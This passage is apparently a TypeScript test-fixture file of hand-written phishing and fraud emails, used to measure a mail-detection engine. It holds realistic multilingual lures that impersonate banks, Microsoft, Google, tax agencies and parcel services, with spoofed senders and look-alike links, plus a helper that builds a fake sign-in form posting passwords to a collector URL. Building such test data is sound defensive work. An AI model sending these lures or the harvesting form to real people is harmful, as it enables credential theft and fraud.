// An eighth blind batch of hand-written phishing, fraud and malware (2025–2026), written before
// reading any detection code, to measure the engine on mail nobody tuned it to. Unlike the
// seventh batch it leans on the everyday mix rather than the year's novelties: about half
// classic credential phishing (Microsoft 365, Google, Apple ID, Netflix, banks and cards, webmail
// quota, shared documents, parcel and customs fees, tax refunds, voicemail and fax, HR and
// payroll), a quarter fraud (advance fee, inheritance, lottery, investment, romance, task jobs,
// sextortion, CEO gift cards, bank-detail changes, fake invoices), the rest malware (ZIP with
// JS, ISO, LNK, VBS, a macro document, a password-protected archive, HTML smuggling) and
// spam-like scams (a miracle cure, a casino, a dating lure, a fake shop). In English, Spanish,
// Brazilian and European Portuguese, German, French and Dutch; short plain messages, long HTML
// templates, broken English, a subject-only lure, a picture-only one, attachment-only ones.
// Delivery varies: throw-away domains, compromised businesses whose own DKIM passes, free mail,
// ESPs. Criminal infrastructure uses invented names and documentation IP ranges; real brand
// domains appear only where the brand is spoofed (failing DMARC) or its own service abused.
// About a third carry no trace fields at all (withoutTrace), as a stripped held-out set would.
//
// Caught 36/50 when written (the misses are the `todo` cases); 41/50 after a first round of rules for its misses,
// 44/50 after a second, 45/50 with the learned layer, which never trained on this batch.

import { isoImage, JPEG, macroPackage, shortcut, SMUGGLING_HTML, storedZip, textPdf, utf8, zip } from './formats-builders.ts';
import { attachment, document, gmailBody, html, mail, multipart, plain } from './mail-builder.ts';
import type { AuthOutcome } from './mail-builder.ts';
import type { PhishingCase } from './phishing-mail-cases.ts';
import { sendgridHeaders } from './phishing-mail-fourth-cases.ts';
import { inlineImage } from './phishing-mail-more-cases.ts';
import { withoutTrace } from './phishing-mail-seventh-cases.ts';
import { brevoHeaders } from './phishing-mail-third-cases.ts';

/** A throw-away domain registered for the campaign: it signs, but publishes no DMARC. */
const THROWAWAY: AuthOutcome = { dmarc: 'none' };
/** A brand's own domain in From, sent from the criminal's server: unsigned, DMARC fails. */
const SPOOFED: AuthOutcome = { dkim: 'none', spf: 'softfail', dmarc: 'fail' };

const GMAIL = { dkim: ['gmail.com:20230601'], relay: 'mail-sor-f41.google.com [209.85.220.41]' } as const;
const OUTLOOK = { dkim: ['outlook.com:selector1'], relay: 'EUR05-AM6-obe.outbound.protection.outlook.com [40.92.58.117]' } as const;

/** A look-alike sign-in page saved as an attachment: the address filled in, the form posting to the collector. */
function signInPage(title: string, email: string, collector: string): string {
  return `<!DOCTYPE html><html><head><meta charset="utf-8"><title>${title}</title></head><body style="font-family:Segoe UI,Arial;background:#f2f2f2">
<div style="width:380px;margin:80px auto;background:#fff;padding:36px"><h2>${title}</h2><p>Sign in to play your message</p>
<form method="post" action="${collector}"><input name="u" value="${email}"><input name="p" type="password" placeholder="Password"><button type="submit">Sign in</button></form></div></body></html>`;
}

export const EIGHTH_CASES: readonly PhishingCase[] = [
  // ================================================================ credential phishing (en)
  {
    // The plainest Microsoft 365 lure: "unusual sign-in activity", a throw-away domain and a kit
    // on Cloudflare Pages. Stripped of trace fields.
    name: 'Microsoft "unusual sign-in activity, review recent activity" from a throw-away domain, kit on pages.dev, no trace fields',
    lang: 'en',
    lure: 'account-alert',
    expect: ['phishing'],
    raw: withoutTrace(
      mail({
        from: 'Microsoft account team <account-security-noreply@msonline-alerts.com>',
        to: 'l.henderson@crestviewdental.com',
        subject: 'Microsoft account unusual sign-in activity',
        date: 'Tue, 13 May 2025 06:41:19 +0000',
        messageId: '20250513064119.7c1e2a@msonline-alerts.com',
        dkim: ['msonline-alerts.com:default'],
        relay: 'mail.msonline-alerts.com [203.0.113.71]',
        body: document([
          { heading: 'Unusual sign-in activity' },
          'We detected something unusual about a recent sign-in to the Microsoft account l.henderson@crestviewdental.com.',
          {
            rows: [
              ['Country/region', 'Russia/Moscow'],
              ['IP address', '95.108.213.4'],
              ['Date', '13/05/2025 03:12 AM (GMT)'],
              ['Platform', 'Windows 10'],
              ['Browser', 'Firefox'],
            ],
          },
          "Please go to your recent activity page to let us know whether or not this was you. If this wasn't you, we'll help you secure your account. If this was you, we'll trust similar activity in the future.",
          { button: 'Review recent activity', href: 'https://ms-account-review-7h2.pages.dev/activity?id=bC5oZW5kZXJzb25AY3Jlc3R2aWV3ZGVudGFsLmNvbQ' },
          { small: 'To opt out or change where you receive security notifications, click here. Thanks, The Microsoft account team' },
        ]),
      }),
    ),
  },
  {
    // Google's own domain spoofed (DMARC fails): "someone has your password" with a look-alike
    // sign-in host.
    name: 'Spoofed google.com "Someone has your password" with a button to a look-alike accounts host',
    lang: 'en',
    lure: 'account-alert',
    expect: ['phishing'],
    raw: mail({
      from: 'Google <no-reply@accounts.google.com>',
      to: 'marcus.bell1987@gmail.com',
      subject: 'Security alert: Someone has your password',
      date: 'Sat, 7 Jun 2025 02:18:40 +0000',
      messageId: 'a91c2e7f3b4d4e5f@mail-svc-relay.net',
      returnPath: 'bounce@mail-svc-relay.net',
      relay: 'vps-2291.mail-svc-relay.net [198.51.100.23]',
      auth: SPOOFED,
      body: document([
        { heading: 'Someone has your password' },
        'Hi Marcus,',
        'Someone just used your password to try to sign in to your Google Account marcus.bell1987@gmail.com. Google blocked them, but you should change your password immediately.',
        {
          rows: [
            ['When', 'Saturday, June 7, 2:14 AM'],
            ['Where', 'Lagos, Nigeria'],
            ['Device', 'Chrome on Windows'],
          ],
        },
        { button: 'CHANGE PASSWORD', href: 'https://accounts.google.com.signin-secure-verify.com/ServiceLogin?continue=mail' },
        { small: 'Best, The Mail Team' },
      ]),
    }),
  },
  {
    // Apple ID locked, sent from an Outlook.com mailbox, broken English, no trace fields.
    name: 'Apple ID "locked for security reasons" in broken English from an outlook.com mailbox, no trace fields',
    lang: 'en',
    lure: 'account-alert',
    expect: ['phishing'],
    raw: withoutTrace(
      mail({
        from: 'Apple Support <apple.id.service.center@outlook.com>',
        to: 'karen.whitfield@icloud.com',
        subject: 'Your Apple ID has been locked for security reasons [Case ID: 88-21944]',
        date: 'Mon, 16 Jun 2025 11:32:07 +0000',
        messageId: 'DB9PR02MB7418C2A1E0F9B8D7@DB9PR02MB7418.eurprd02.prod.outlook.com',
        ...OUTLOOK,
        body: document([
          'Dear Customer,',
          'Your Apple ID has been locked for security reasons. We detect that someone try to login your account from unknown device in another country. For protect your information we have temporary disable your Apple ID.',
          'You must verify your informations within 24 hours, otherwise your account will be permanently deleted and all your photos, iCloud data and purchases will be lost.',
          { button: 'Verify Apple ID Now', href: 'http://appleid-unlock-verify.info/appleid/?case=8821944' },
          'Sincerely, Apple Support',
        ]),
      }),
    ),
  },
  {
    // Netflix payment failure through an abused SendGrid account on a look-alike domain.
    name: 'Netflix "we couldn\'t process your payment, membership on hold" through SendGrid from a look-alike domain',
    lang: 'en',
    lure: 'streaming',
    expect: ['phishing'],
    raw: mail({
      from: 'Netflix <info@netflix-membership-billing.com>',
      to: 'dwayne.carter.tx@yahoo.com',
      subject: 'Your membership is on hold - update your payment details',
      date: 'Wed, 2 Jul 2025 19:47:12 +0000',
      messageId: 'Rk2pLmN8qT4vW9xZ1bC3dE@geopod-ismtpd-7',
      dkim: ['netflix-membership-billing.com:s1', 'sendgrid.net:smtpapi'],
      returnPath: 'bounces+39120044-7f1a-dwayne.carter.tx=yahoo.com@em4021.netflix-membership-billing.com',
      relay: 'o1.ptr2290.netflix-membership-billing.com [149.72.120.44]',
      auth: THROWAWAY,
      headers: sendgridHeaders('Rk2pLmN8qT4vW9xZ1bC3dEfG5hJ7kL9mN1pQ3rS5t'),
      body: document(
        [
          { image: 'https://netflix-membership-billing.com/img/logo.png', alt: 'NETFLIX' },
          { heading: 'Please update your payment method' },
          'Hi Dwayne,',
          "We're having some trouble with your current billing information. We'll try again, but in the meantime you may want to update your payment details. Your membership has been put on hold until the payment is completed.",
          { button: 'UPDATE ACCOUNT', href: 'https://netflix-membership-billing.com/account/payment?u=ZHdheW5lLmNhcnRlcg' },
          "Need help? We're here if you need it. Visit the Help Center or contact us now.",
          { small: 'Your friends at Netflix. This account email has been sent to you as part of your Netflix membership.' },
        ],
        { title: 'Netflix' },
      ),
    }),
  },
  {
    // Short plain-text bank lure, no trace fields: "account restricted", a look-alike host.
    name: 'Chase "account restricted, unusual debit card activity" plain text from a throw-away domain, no trace fields',
    lang: 'en',
    lure: 'bank',
    expect: ['phishing'],
    raw: withoutTrace(
      mail({
        from: 'Chase Online <alerts@chase-cardservices-notice.com>',
        to: 'tmoreno77@aol.com',
        subject: 'Important: Your account access has been restricted',
        date: 'Fri, 18 Jul 2025 04:22:56 +0000',
        messageId: '1752812576.88412@chase-cardservices-notice.com',
        dkim: ['chase-cardservices-notice.com:mail'],
        relay: 'smtp.chase-cardservices-notice.com [203.0.113.88]',
        body: plain(
          'Dear Customer,\n\nWe noticed unusual activity on your Chase debit card ending in 4471 and have temporarily restricted your online access to protect your account.\n\nTo restore full access, please verify your identity within 24 hours:\nhttps://chase-cardservices-notice.com/verify/login.php?ref=4471\n\nIf you do not verify, your card will remain suspended.\n\nThank you,\nChase Fraud Prevention Department',
        ),
      }),
    ),
  },
  {
    // Webmail quota from a school district's hijacked account (DKIM passes), to an IPFS gateway.
    name: 'Webmail "quota exceeded, validate to avoid suspension" from a school district\'s hijacked account, IPFS gateway',
    lang: 'en',
    lure: 'mailbox',
    expect: ['phishing'],
    raw: mail({
      from: 'Email Administrator <jroberts@pinevalleyschools.org>',
      to: 'sales@tristatefasteners.com',
      subject: 'Email Quota Exceeded - sales@tristatefasteners.com',
      date: 'Tue, 29 Jul 2025 09:14:30 -0500',
      messageId: 'CAK3r9pX1mT7vQ2wN4bZ6cY8dF0gH-jL@mail.gmail.com',
      dkim: ['pinevalleyschools.org:google'],
      relay: 'mail-yw1-f172.google.com [209.85.128.172]',
      body: gmailBody(
        'Dear sales@tristatefasteners.com,\n\nYour mailbox has exceeded the storage limit set by your administrator (2 GB). You will not be able to send or receive new messages until you validate your mailbox.\n\nTo validate, [CLICK HERE](https://ipfs.io/ipfs/bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi/index.html#sales@tristatefasteners.com)\n\nFailure to validate within 24 hours will lead to suspension of your account.\n\nRegards,\nSystem Administrator',
      ),
    }),
  },
  {
    // DocuSign look-alike from a throw-away domain, an Azure web app for the kit, no trace fields.
    name: 'DocuSign "Please review and sign: Final Settlement Agreement" from a throw-away domain, azurewebsites.net kit, no trace fields',
    lang: 'en',
    lure: 'e-signature',
    expect: ['phishing'],
    raw: withoutTrace(
      mail({
        from: 'DocuSign via Legal Dept <dse@docusign-envelope-delivery.net>',
        to: 'r.okafor@meridianhomecare.com',
        subject: 'Please DocuSign: Final Settlement Agreement_Meridian Home Care.pdf',
        date: 'Wed, 6 Aug 2025 15:58:03 +0000',
        messageId: '20250806155803.e7a1@docusign-envelope-delivery.net',
        dkim: ['docusign-envelope-delivery.net:default'],
        relay: 'mail.docusign-envelope-delivery.net [198.51.100.140]',
        body: document([
          { heading: 'Legal Department sent you a document to review and sign.' },
          { button: 'REVIEW DOCUMENT', href: 'https://docview-secure-4819.azurewebsites.net/envelope/?id=9F2A71C4&e=ci5va2Fmb3JAbWVyaWRpYW5ob21lY2FyZS5jb20=' },
          'Please review and complete the Final Settlement Agreement at your earliest convenience. This envelope expires in 2 days.',
          {
            small: 'Do Not Share This Email. This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.',
          },
          { small: "About DocuSign: Sign documents electronically in just minutes. It's safe, secure, and legally binding." },
        ]),
      }),
    ),
  },
  {
    // HMRC tax refund, spoofed gov.uk sender (DMARC fails), look-alike domain.
    name: 'HMRC "you are eligible for a tax refund of £428.50" spoofing gov.uk, look-alike claim site',
    lang: 'en',
    lure: 'tax',
    expect: ['phishing'],
    raw: mail({
      from: 'HM Revenue & Customs <no-reply@hmrc.gov.uk>',
      to: 'gareth.pryce@btinternet.com',
      subject: 'Tax Refund Notification - Reference HMRC-RF-2291-04',
      date: 'Thu, 4 Sep 2025 08:30:11 +0100',
      messageId: '4f81c3a2e9b7@vps1140.hostnet-eu.net',
      returnPath: 'root@vps1140.hostnet-eu.net',
      relay: 'vps1140.hostnet-eu.net [198.51.100.77]',
      auth: SPOOFED,
      body: document(
        [
          { heading: 'HM Revenue & Customs' },
          'Dear Taxpayer,',
          'After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund of £428.50.',
          'Please submit the tax refund request and allow us 3-5 business days in order to process it. A refund can be delayed for a variety of reasons, for example submitting invalid records or applying after the deadline.',
          { button: 'Claim your refund', href: 'https://gov-uk-taxrefund-claim.com/hmrc/refund.php?ref=RF229104' },
          { small: 'Reference: HMRC-RF-2291-04. Copyright 2025 HM Revenue & Customs.' },
        ],
        { lang: 'en-GB' },
      ),
    }),
  },
  {
    // Voicemail with the sign-in page as an HTML attachment, form posting to the collector.
    name: 'Voicemail "New message from +1 (312) 555-0186, 0:47" with a sign-in page as HTML attachment',
    lang: 'en',
    lure: 'voicemail',
    expect: ['phishing'],
    raw: mail({
      from: 'Voice Messaging System <voicemail@cloudpbx-notify.com>',
      to: 'mgarcia@lakeshoreautoparts.com',
      subject: 'New Voicemail Received - (312) 555-0186 - Duration 0:47',
      date: 'Tue, 16 Sep 2025 13:27:55 -0500',
      messageId: '20250916182755.2c91@cloudpbx-notify.com',
      dkim: ['cloudpbx-notify.com:default'],
      relay: 'mail.cloudpbx-notify.com [203.0.113.33]',
      auth: THROWAWAY,
      body: multipart('mixed', [
        document([
          { heading: 'You have a new voice message' },
          {
            rows: [
              ['From', '+1 (312) 555-0186'],
              ['To', 'mgarcia@lakeshoreautoparts.com'],
              ['Received', 'Tuesday, September 16, 2025 1:26 PM'],
              ['Length', '00:47'],
            ],
          },
          'Open the attached audio file to play your message.',
          { small: 'Unified Messaging Service for lakeshoreautoparts.com' },
        ]),
        attachment(
          'VM_3125550186_0047.htm',
          'text/html',
          signInPage('Microsoft Voicemail', 'mgarcia@lakeshoreautoparts.com', 'https://vm-playback-secure.com/submit.php'),
        ),
      ]),
    }),
  },
  {
    // Payroll: "2025 salary adjustment", a construction firm's hijacked mailbox, workers.dev kit,
    // no trace fields.
    name: 'HR "2025 salary adjustment, review and acknowledge" from a hijacked business mailbox, workers.dev kit, no trace fields',
    lang: 'en',
    lure: 'file-share',
    expect: ['phishing'],
    todo: "suspicious/medium: link_free_hosting, link_recipient_address, auth_results_missing; the plain address in the query now counts on a page built on free hosting, but links alone never make a verdict, and nothing else reads an HR letter sent from another company's domain",
    raw: withoutTrace(
      mail({
        from: 'Human Resources <payroll@ridgelineconstruct.com>',
        to: 'a.novak@silverbirchmedia.com',
        subject: 'Salary Adjustment 2025 - Confidential - a.novak',
        date: 'Mon, 6 Oct 2025 07:55:20 +0000',
        messageId: 'PH0PR19MB5121B8D7A2C3E4F5@PH0PR19MB5121.namprd19.prod.outlook.com',
        dkim: ['ridgelineconstruct.com:selector1'],
        relay: 'NAM04-BN8-obe.outbound.protection.outlook.com [40.107.100.71]',
        body: document([
          'Hello,',
          'Following the annual performance review, Human Resources has published the salary adjustment letter for 2025. The document is confidential and was shared with you through the secure company portal.',
          'Please review and acknowledge before Friday so that the change is applied to the next payroll.',
          { button: 'View Salary Adjustment Letter', href: 'https://hr-docs-portal.bright-sky-6d2.workers.dev/?doc=salary2025&u=a.novak@silverbirchmedia.com' },
          'Human Resources Department',
        ]),
      }),
    ),
  },
  {
    // Fax: a PDF attachment whose only link goes to the kit.
    name: 'eFax "You have received a 3-page fax" with a PDF whose link goes to the kit',
    lang: 'en',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'eFax Messenger <message@efax-delivery-center.com>',
      to: 'office@bayviewpediatrics.com',
      subject: 'eFax message from "Unknown" - 3 page(s), Caller-ID: 1-855-555-0130',
      date: 'Wed, 22 Oct 2025 16:41:08 +0000',
      messageId: '20251022164108.9e1d@efax-delivery-center.com',
      dkim: ['efax-delivery-center.com:default'],
      relay: 'out.efax-delivery-center.com [198.51.100.92]',
      auth: THROWAWAY,
      body: multipart('mixed', [
        plain(
          'Fax Message [Caller-ID: 1-855-555-0130]\n\nYou have received a 3 page fax at 2025-10-22 09:40:12 PST.\n\n* The reference number for this fax is lax1_did12-1761151212-8555550130-47.\n\nPlease open the attached PDF to view your fax.\n\nThank you for using the eFax service!',
        ),
        attachment(
          'eFax_3pages_8555550130.pdf',
          'application/pdf',
          textPdf(
            ['eFax Secure Document', '3 pages - protected', 'Click VIEW FAX to open the document in your browser', 'VIEW FAX'],
            'https://efax-view-secure.com/view/?id=47&m=b2ZmaWNlQGJheXZpZXdwZWRpYXRyaWNzLmNvbQ',
          ),
        ),
      ]),
    }),
  },
  // ================================================================ credential phishing (es)
  {
    // BBVA spoofed (DMARC fails), "acceso bloqueado", look-alike host.
    name: 'BBVA suplantado "hemos bloqueado temporalmente su acceso, verifique su identidad" con enlace a un dominio parecido',
    lang: 'es',
    lure: 'bank',
    expect: ['phishing'],
    raw: mail({
      from: 'BBVA <avisos@bbva.es>',
      to: 'mjose.navarro@telefonica.net',
      subject: 'Aviso de seguridad: acceso a Banca Online bloqueado',
      date: 'Tue, 11 Feb 2025 08:17:33 +0100',
      messageId: '20250211071733.1f9e@srv-mail04.cloudhost-iber.net',
      returnPath: 'www-data@srv-mail04.cloudhost-iber.net',
      relay: 'srv-mail04.cloudhost-iber.net [198.51.100.180]',
      auth: SPOOFED,
      body: document(
        [
          { heading: 'Estimado cliente:' },
          'Hemos detectado un intento de acceso no autorizado a su Banca Online desde un dispositivo no reconocido. Por su seguridad, hemos bloqueado temporalmente el acceso a su cuenta.',
          'Para desbloquearla debe verificar su identidad en un plazo de 24 horas. Pasado este plazo, su tarjeta quedará cancelada.',
          { button: 'Verificar identidad', href: 'https://bbva-es-verificacion-cliente.com/acceso/?id=55120' },
          { small: 'BBVA, S.A. Este es un mensaje automático, no responda a este correo.' },
        ],
        { lang: 'es' },
      ),
    }),
  },
  {
    // Correos customs fee, brand-less throw-away sender, no trace fields.
    name: 'Correos "su envío está retenido en aduanas, abone 2,99 €" desde un dominio desechable, sin campos de traza',
    lang: 'es',
    lure: 'parcel',
    expect: ['phishing'],
    raw: withoutTrace(
      mail({
        from: 'Correos <notificaciones@correos-envio-aduana.es.com>',
        to: 'pablo.ruiz.gomez@gmail.com',
        subject: 'Su envío PQ4E7A0912347 está pendiente de pago de aranceles',
        date: 'Thu, 27 Feb 2025 12:46:18 +0100',
        messageId: '20250227114618.3a7b@correos-envio-aduana.es.com',
        dkim: ['correos-envio-aduana.es.com:default'],
        relay: 'mail.correos-envio-aduana.es.com [203.0.113.240]',
        body: document(
          [
            { heading: 'Su paquete está retenido' },
            'Estimado cliente, su envío PQ4E7A0912347 se encuentra retenido en nuestro centro de tratamiento aduanero a la espera del pago de los gastos de aduana (2,99 €).',
            'Si no se realiza el pago en las próximas 48 horas, el paquete será devuelto al remitente.',
            { button: 'Pagar y programar entrega', href: 'https://correos-envio-aduana.es.com/pago/PQ4E7A0912347' },
            { small: 'Sociedad Estatal Correos y Telégrafos, S.A.' },
          ],
          { lang: 'es' },
        ),
      }),
    ),
  },
  {
    // Agencia Tributaria refund, ES, from a hijacked shop's mailbox (its DKIM passes).
    name: 'Agencia Tributaria "tiene un reembolso pendiente de 386,20 €" desde el buzón secuestrado de una tienda',
    lang: 'es',
    lure: 'tax',
    expect: ['phishing'],
    raw: mail({
      from: 'Agencia Tributaria <info@ferreteriacastillo.es>',
      to: 'lucia.fernandez@yahoo.es',
      subject: 'Notificación: reembolso de impuestos pendiente (Ref. AEAT-2025-77810)',
      date: 'Mon, 12 May 2025 10:03:27 +0200',
      messageId: '6821a9bf.1c5e@ferreteriacastillo.es',
      dkim: ['ferreteriacastillo.es:default'],
      relay: 'smtp.ferreteriacastillo.es [198.51.100.211]',
      body: document(
        [
          'Estimado/a contribuyente:',
          'Tras el último cálculo anual de su actividad fiscal, hemos determinado que tiene derecho a recibir un reembolso de impuestos por importe de 386,20 €.',
          'Para recibir el reembolso, complete el formulario con los datos de su tarjeta bancaria donde se realizará el abono.',
          { button: 'Solicitar reembolso', href: 'https://sede-agenciatributaria-reembolso.com/formulario?ref=77810' },
          { small: 'Agencia Estatal de Administración Tributaria. Ministerio de Hacienda.' },
        ],
        { lang: 'es' },
      ),
    }),
  },
  // ================================================================ credential phishing (pt-BR, pt-PT)
  {
    // Nubank "compra aprovada" alert, no trace fields, a look-alike domain.
    name: 'Nubank "compra aprovada de R$ 2.349,90, não reconhece?" de domínio parecido, sem campos de traço',
    lang: 'pt-BR',
    lure: 'bank',
    expect: ['phishing'],
    raw: withoutTrace(
      mail({
        from: 'Nubank <seguranca@nubank-atendimento.com>',
        to: 'rafaela.lima.sp@gmail.com',
        subject: 'Compra aprovada: R$ 2.349,90 em MAGAZINE LUIZA',
        date: 'Fri, 14 Mar 2025 21:55:40 -0300',
        messageId: '20250315005540.7c2d@nubank-atendimento.com',
        dkim: ['nubank-atendimento.com:default'],
        relay: 'mail.nubank-atendimento.com [203.0.113.145]',
        body: document(
          [
            { heading: 'Compra aprovada no seu cartão' },
            {
              rows: [
                ['Valor', 'R$ 2.349,90'],
                ['Estabelecimento', 'MAGAZINE LUIZA ONLINE'],
                ['Cartão', 'final 8812'],
                ['Data', '14/03/2025 21:52'],
              ],
            },
            'Não reconhece esta compra? Cancele agora para evitar a cobrança na sua fatura. O cancelamento só pode ser feito nas próximas 2 horas.',
            { button: 'Não reconheço esta compra', href: 'https://nubank-atendimento.com/cancelar-compra?id=88120' },
            { small: 'Nu Pagamentos S.A. - Instituição de Pagamento.' },
          ],
          { lang: 'pt-BR' },
        ),
      }),
    ),
  },
  {
    // Correios "taxa de importação" from a Gmail account, short.
    name: 'Correios "sua encomenda foi taxada, pague R$ 67,42" de uma conta Gmail',
    lang: 'pt-BR',
    lure: 'parcel',
    expect: ['phishing'],
    raw: mail({
      from: 'Correios Rastreamento <correios.rastreio.brasil@gmail.com>',
      to: 'joao.pedro.silva@hotmail.com',
      subject: 'Sua encomenda foi taxada - objeto NL742881293BR',
      date: 'Tue, 8 Apr 2025 10:11:09 -0300',
      messageId: 'CAF7yK2mZ9pQ4xT1vB8nR3wL6cD0eG5hJ-a@mail.gmail.com',
      ...GMAIL,
      body: gmailBody(
        'Olá,\n\nSeu objeto NL742881293BR foi tributado pela Receita Federal e está aguardando o pagamento da taxa de importação de R$ 67,42.\n\nRealize o pagamento via PIX em até 3 dias úteis para liberar a entrega: [https://correios-rastreio-taxa.com/pagar/NL742881293BR](https://correios-rastreio-taxa.com/pagar/NL742881293BR)\n\nApós o prazo o objeto será devolvido ao remetente.\n\nAtenciosamente,\nCorreios',
      ),
    }),
  },
  {
    // Receita Federal "CPF irregular", throw-away domain, HTML template.
    name: 'Receita Federal "seu CPF está irregular e será cancelado, regularize" de domínio descartável',
    lang: 'pt-BR',
    lure: 'tax',
    expect: ['phishing'],
    raw: mail({
      from: 'Receita Federal do Brasil <notificacao@receita-regularizacao-cpf.com>',
      to: 'claudia.martins75@uol.com.br',
      subject: 'Notificação: pendência no CPF - regularize em até 48h',
      date: 'Wed, 21 May 2025 14:30:44 -0300',
      messageId: '20250521173044.4c1a@receita-regularizacao-cpf.com',
      dkim: ['receita-regularizacao-cpf.com:default'],
      relay: 'mail.receita-regularizacao-cpf.com [198.51.100.15]',
      auth: THROWAWAY,
      body: document(
        [
          { heading: 'Ministério da Fazenda - Receita Federal' },
          'Prezado(a) contribuinte,',
          'Identificamos pendências na sua Declaração de Imposto de Renda. Seu CPF foi classificado como IRREGULAR e poderá ser cancelado, bloqueando contas bancárias, PIX e benefícios.',
          'Regularize sua situação e emita o DARF para pagamento em até 48 horas.',
          { button: 'Regularizar CPF', href: 'https://receita-regularizacao-cpf.com/gov/consulta?cpf=' },
          { small: 'Receita Federal do Brasil - Esplanada dos Ministérios, Bloco P, Brasília/DF.' },
        ],
        { lang: 'pt-BR' },
      ),
    }),
  },
  {
    // CTT customs fee (Portugal), no trace fields.
    name: 'CTT "a sua encomenda aguarda pagamento de portes aduaneiros de 1,89 €" sem campos de traço',
    lang: 'pt-PT',
    lure: 'parcel',
    expect: ['phishing'],
    raw: withoutTrace(
      mail({
        from: 'CTT Expresso <info@ctt-encomendas-pt.com>',
        to: 'ines.carvalho@sapo.pt',
        subject: 'A sua encomenda RR889120445PT aguarda pagamento',
        date: 'Mon, 9 Jun 2025 09:48:02 +0100',
        messageId: '20250609084802.2e7f@ctt-encomendas-pt.com',
        dkim: ['ctt-encomendas-pt.com:default'],
        relay: 'mail.ctt-encomendas-pt.com [203.0.113.122]',
        body: document(
          [
            'Caro(a) cliente,',
            'A sua encomenda RR889120445PT encontra-se retida no nosso centro de distribuição por falta de pagamento dos portes aduaneiros (1,89 €).',
            'Efetue o pagamento através do link abaixo para agendar uma nova entrega. Se não o fizer em 72 horas, a encomenda será devolvida.',
            { button: 'Pagar agora', href: 'https://ctt-encomendas-pt.com/pagamento/RR889120445PT' },
            { small: 'CTT - Correios de Portugal, S.A.' },
          ],
          { lang: 'pt-PT' },
        ),
      }),
    ),
  },
  {
    // Millennium bcp "atualize os seus dados", from a Portuguese hotel's hijacked mailbox.
    name: 'Millennium bcp "atualização obrigatória de dados, acesso suspenso" do buzão comprometido de um hotel',
    lang: 'pt-PT',
    lure: 'bank',
    expect: ['phishing'],
    raw: mail({
      from: 'Millennium bcp <reservas@hotelquintadoslagos.pt>',
      to: 'rui.tavares@netcabo.pt',
      subject: 'Millennium: acesso ao seu serviço online suspenso',
      date: 'Thu, 3 Jul 2025 18:22:15 +0100',
      messageId: '8f2c1a7e9b3d@hotelquintadoslagos.pt',
      dkim: ['hotelquintadoslagos.pt:default'],
      relay: 'mail.hotelquintadoslagos.pt [198.51.100.203]',
      body: document(
        [
          'Estimado(a) Cliente,',
          'Por imposição do Banco de Portugal, todos os clientes devem confirmar os seus dados de acesso e o número de telemóvel associado ao serviço de autenticação forte.',
          'O seu acesso ao Millennium Online foi temporariamente suspenso. Para o reativar, aceda ao link seguinte e confirme os seus dados.',
          { button: 'Reativar acesso', href: 'https://millenniumbcp-online-pt.net/particulares/ativar' },
          'Com os melhores cumprimentos, Millennium bcp',
        ],
        { lang: 'pt-PT' },
      ),
    }),
  },
  // ================================================================ credential phishing (de, fr, nl)
  {
    // Sparkasse pushTAN change, no trace fields.
    name: 'Sparkasse "Umstellung auf neues pushTAN-Verfahren bis 30.09." von einer Wegwerf-Domain, ohne Trace-Felder',
    lang: 'de',
    lure: 'bank',
    expect: ['phishing'],
    raw: withoutTrace(
      mail({
        from: 'Sparkasse <service@sparkasse-pushtan-update.de.com>',
        to: 'thomas.becker@web.de',
        subject: 'Wichtig: Aktualisierung Ihres pushTAN-Verfahrens erforderlich',
        date: 'Tue, 16 Sep 2025 10:12:48 +0200',
        messageId: '20250916081248.5d2c@sparkasse-pushtan-update.de.com',
        dkim: ['sparkasse-pushtan-update.de.com:default'],
        relay: 'mail.sparkasse-pushtan-update.de.com [203.0.113.180]',
        body: document(
          [
            'Sehr geehrte Kundin, sehr geehrter Kunde,',
            'aufgrund neuer gesetzlicher Vorgaben (PSD2) wird das pushTAN-Verfahren umgestellt. Bitte führen Sie die Aktualisierung bis zum 30.09.2025 durch, da Ihr Online-Banking sonst gesperrt wird.',
            { button: 'Jetzt aktualisieren', href: 'https://sparkasse-pushtan-update.de.com/freischaltung/login' },
            'Mit freundlichen Grüßen, Ihre Sparkasse',
          ],
          { lang: 'de' },
        ),
      }),
    ),
  },
  {
    // DHL customs fee in German, through SendGrid from a throw-away domain.
    name: 'DHL "Zollgebühren von 2,49 € ausstehend, Sendung wird zurückgesendet" über SendGrid',
    lang: 'de',
    lure: 'parcel',
    expect: ['phishing'],
    raw: mail({
      from: 'DHL Paket <noreply@dhl-paket-zustellung.info>',
      to: 'sabine.krueger@gmx.de',
      subject: 'Ihre Sendung 00340434161094012345 – Zollgebühren ausstehend',
      date: 'Fri, 10 Oct 2025 15:33:20 +0200',
      messageId: 'tY8kLp2MnQ4rS6vW8xZ0bA@geopod-ismtpd-3',
      dkim: ['dhl-paket-zustellung.info:s1', 'sendgrid.net:smtpapi'],
      returnPath: 'bounces+40022817-c3d1-sabine.krueger=gmx.de@em2291.dhl-paket-zustellung.info',
      relay: 'o2.ptr4410.dhl-paket-zustellung.info [149.72.44.201]',
      auth: THROWAWAY,
      headers: sendgridHeaders('tY8kLp2MnQ4rS6vW8xZ0bAcD2eF4gH6jK8lM0nP2q'),
      body: document(
        [
          { heading: 'Ihre Sendung wartet auf Zahlung' },
          'Für Ihre Sendung 00340434161094012345 sind Zollgebühren in Höhe von 2,49 € angefallen. Bitte begleichen Sie den Betrag innerhalb von 48 Stunden, sonst wird die Sendung an den Absender zurückgeschickt.',
          { button: 'Gebühren bezahlen', href: 'https://dhl-paket-zustellung.info/zoll/zahlung?id=00340434161094012345' },
          { small: 'DHL Paket GmbH, Sträßchensweg 10, 53113 Bonn' },
        ],
        { lang: 'de' },
      ),
    }),
  },
  {
    // Ameli carte Vitale renewal.
    name: 'Ameli "votre carte Vitale expire, commandez la nouvelle carte (frais 1,95 €)"',
    lang: 'fr',
    lure: 'authority',
    expect: ['phishing'],
    raw: mail({
      from: 'Assurance Maladie <ne-pas-repondre@ameli-carte-vitale.fr.com>',
      to: 'nathalie.girard@orange.fr',
      subject: 'Votre carte Vitale arrive à expiration',
      date: 'Wed, 19 Mar 2025 11:05:37 +0100',
      messageId: '20250319100537.6a3e@ameli-carte-vitale.fr.com',
      dkim: ['ameli-carte-vitale.fr.com:default'],
      relay: 'mail.ameli-carte-vitale.fr.com [198.51.100.57]',
      auth: THROWAWAY,
      body: document(
        [
          { heading: 'Renouvellement de votre carte Vitale' },
          'Madame, Monsieur,',
